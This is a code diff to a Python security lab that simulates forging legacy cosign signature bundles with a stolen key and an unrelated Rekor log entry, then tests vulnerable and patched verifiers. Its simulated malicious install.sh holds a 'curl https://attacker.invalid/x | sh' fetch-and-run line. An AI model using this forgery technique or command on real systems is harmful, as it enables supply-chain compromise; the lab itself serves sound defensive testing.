@@ -16,7 +16,7 @@ import tempfile
 from typing import Any
 
 from labkit.attacks.checks import explain_legacy
-from labkit.attacks.sandbox import SandboxLog, SandboxRegistry, sign_image
+from labkit.attacks.sandbox import LabkitLog, SandboxLog, SandboxRegistry, labkit_log, sign_image
 from labkit.attacks.scenario import LABKIT_MODE, Outcome, Scenario, register
 from labkit.attacks.vulnerable import (
     LegacySignature,
@@ -53,7 +53,7 @@ def entry_comparison(sig: LegacySignature, signer_pem: bytes, entry_body: bytes)
     return [{"field": f, "log entry says": a, "being verified": b, "match": "yes" if ok else "NO"} for f, a, b, ok in rows]
 
 
-def _unrelated_entry(lab: Lab, log: SandboxLog, out: Outcome) -> LogEntry:
+def _unrelated_entry(lab: Lab, log: SandboxLog | LabkitLog, out: Outcome) -> LogEntry:
     bystander = generate("ecdsa-p256", lab=lab, label="attacks/bystander")
     readme = b"release notes for an unrelated project\n"
     sig = bystander.sign(readme)
@@ -63,7 +63,7 @@ def _unrelated_entry(lab: Lab, log: SandboxLog, out: Outcome) -> LogEntry:
     return entry
 
 
-def _judge_legacy(out: Outcome, sig: LegacySignature, log: SandboxLog, key: Any, expected_digest: str | None) -> None:
+def _judge_legacy(out: Outcome, sig: LegacySignature, log: SandboxLog | LabkitLog, key: Any, expected_digest: str | None) -> None:
     out.judge_call("cosign-legacy-trusted-root", lambda: vulnerable_cosign_legacy_bundle_trusted_root(
         sig, key=key, log_keys=[log.public_key], expected_digest=expected_digest))
     out.judge_call("cosign-patched-legacy", lambda: patched_cosign_legacy_bundle(
@@ -89,31 +89,31 @@ def _judge_legacy(out: Outcome, sig: LegacySignature, log: SandboxLog, key: Any,
 )
 def ghsa_whqx_image(scenario: Scenario, lab: Lab) -> Outcome:
     out = scenario.outcome()
-    log = SandboxLog(lab)
-    victim = generate("ecdsa-p256", lab=lab, label="attacks/victim-release-key")
-    with tempfile.TemporaryDirectory(prefix="labkit-attack-") as tmp:
-        reg = SandboxRegistry(tmp, lab)
-        good = reg.push_image("app", b"app 1.0: the real build\n", tag="1.0")
-        sign_image(victim, f"{reg.host}/app", good, log)
-        out.step("publisher", f"pushes app:1.0 ({good[:19]}…), signs it with the release key; the signature is logged")
-        entry = _unrelated_entry(lab, log, out)
+    with labkit_log(lab) as log:
+        victim = generate("ecdsa-p256", lab=lab, label="attacks/victim-release-key")
+        with tempfile.TemporaryDirectory(prefix="labkit-attack-") as tmp:
+            reg = SandboxRegistry(tmp, lab)
+            good = reg.push_image("app", b"app 1.0: the real build\n", tag="1.0")
+            sign_image(victim, f"{reg.host}/app", good, log)
+            out.step("publisher", f"pushes app:1.0 ({good[:19]}…), signs it with the release key; the signature is logged")
+            entry = _unrelated_entry(lab, log, out)
 
-        evil = reg.push_image("app", b"app 1.1: backdoored build\n", tag="1.1", actor="attacker")
-        out.step("attacker", f"holds the stolen release key; pushes app:1.1 = malicious image {evil[:19]}…")
-        payload = simple_signing_payload(f"{reg.host}/app", evil)
-        signature = victim.sign(payload)
-        out.step("attacker", "signs the simple-signing payload for the malicious digest; uploads NOTHING to the log")
-        forged = LegacySignature(payload, signature, None, entry.rekor_bundle())
-        reg.write_signatures("app", evil, [forged], actor="attacker")
-        out.step("attacker", f"staples entry #{entry.log_index}'s body + SET into dev.sigstore.cosign/bundle "
-                             f"and pushes {reg.sig_tag(evil)[:19]}….sig")
-        out.touch("image", "app:1.1", evil)
-        out.touch("signature manifest", reg.sig_tag(evil)[:20] + "….sig", "forged rekorBundle annotation")
-        stored = reg.signatures("app", evil)[0]
-        out.evidence["annotation"] = stored.annotations()["dev.sigstore.cosign/bundle"]
-        out.evidence["comparison"] = entry_comparison(stored, victim.public_key().pem(), entry.body)
-        out.step("victim", "verifies app@" + evil[:19] + "… with the release public key and the log's trusted root")
-        _judge_legacy(out, stored, log, victim.public_key(), evil)
+            evil = reg.push_image("app", b"app 1.1: backdoored build\n", tag="1.1", actor="attacker")
+            out.step("attacker", f"holds the stolen release key; pushes app:1.1 = malicious image {evil[:19]}…")
+            payload = simple_signing_payload(f"{reg.host}/app", evil)
+            signature = victim.sign(payload)
+            out.step("attacker", "signs the simple-signing payload for the malicious digest; uploads NOTHING to the log")
+            forged = LegacySignature(payload, signature, None, entry.rekor_bundle())
+            reg.write_signatures("app", evil, [forged], actor="attacker")
+            out.step("attacker", f"staples entry #{entry.log_index}'s body + SET into dev.sigstore.cosign/bundle "
+                                 f"and pushes {reg.sig_tag(evil)[:19]}….sig")
+            out.touch("image", "app:1.1", evil)
+            out.touch("signature manifest", reg.sig_tag(evil)[:20] + "….sig", "forged rekorBundle annotation")
+            stored = reg.signatures("app", evil)[0]
+            out.evidence["annotation"] = stored.annotations()["dev.sigstore.cosign/bundle"]
+            out.evidence["comparison"] = entry_comparison(stored, victim.public_key().pem(), entry.body)
+            out.step("victim", "verifies app@" + evil[:19] + "… with the release public key and the log's trusted root")
+            _judge_legacy(out, stored, log, victim.public_key(), evil)
     return out
 
 
@@ -129,18 +129,18 @@ def ghsa_whqx_image(scenario: Scenario, lab: Lab) -> Outcome:
 )
 def ghsa_whqx_blob(scenario: Scenario, lab: Lab) -> Outcome:
     out = scenario.outcome()
-    log = SandboxLog(lab)
-    victim = generate("ecdsa-p256", lab=lab, label="attacks/victim-release-key")
-    entry = _unrelated_entry(lab, log, out)
-    blob = b"#!/bin/sh\ncurl https://attacker.invalid/x | sh\n"
-    signature = victim.sign(blob)
-    out.step("attacker", "signs install.sh (malicious) with the stolen key; uploads nothing")
-    forged = LegacySignature(blob, signature, None, entry.rekor_bundle())
-    out.evidence["bundle_file"] = forged.blob_bundle_json()
-    out.evidence["comparison"] = entry_comparison(forged, victim.public_key().pem(), entry.body)
-    out.step("attacker", f"writes install.sh.bundle = {{base64Signature, rekorBundle: entry #{entry.log_index}}}")
-    out.touch("blob", "install.sh", "sha256:" + hashlib.sha256(blob).hexdigest()[:16] + "…")
-    out.touch("legacy bundle file", "install.sh.bundle", "rekorBundle from an unrelated entry")
-    out.step("victim", "runs verify-blob --key release.pub --bundle install.sh.bundle install.sh")
-    _judge_legacy(out, forged, log, victim.public_key(), None)
+    with labkit_log(lab) as log:
+        victim = generate("ecdsa-p256", lab=lab, label="attacks/victim-release-key")
+        entry = _unrelated_entry(lab, log, out)
+        blob = b"#!/bin/sh\ncurl https://attacker.invalid/x | sh\n"
+        signature = victim.sign(blob)
+        out.step("attacker", "signs install.sh (malicious) with the stolen key; uploads nothing")
+        forged = LegacySignature(blob, signature, None, entry.rekor_bundle())
+        out.evidence["bundle_file"] = forged.blob_bundle_json()
+        out.evidence["comparison"] = entry_comparison(forged, victim.public_key().pem(), entry.body)
+        out.step("attacker", f"writes install.sh.bundle = {{base64Signature, rekorBundle: entry #{entry.log_index}}}")
+        out.touch("blob", "install.sh", "sha256:" + hashlib.sha256(blob).hexdigest()[:16] + "…")
+        out.touch("legacy bundle file", "install.sh.bundle", "rekorBundle from an unrelated entry")
+        out.step("victim", "runs verify-blob --key release.pub --bundle install.sh.bundle install.sh")
+        _judge_legacy(out, forged, log, victim.public_key(), None)
     return out
